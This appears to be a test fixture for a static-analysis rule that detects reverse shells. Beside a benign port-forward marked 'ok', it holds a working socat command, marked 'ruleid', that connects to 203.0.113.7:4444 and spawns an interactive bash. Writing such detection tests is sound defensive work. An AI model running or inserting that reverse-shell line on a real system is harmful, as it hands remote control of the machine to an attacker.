#!/bin/sh
# ruleid: reverse-shell
socat tcp:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid
# ok: reverse-shell
socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
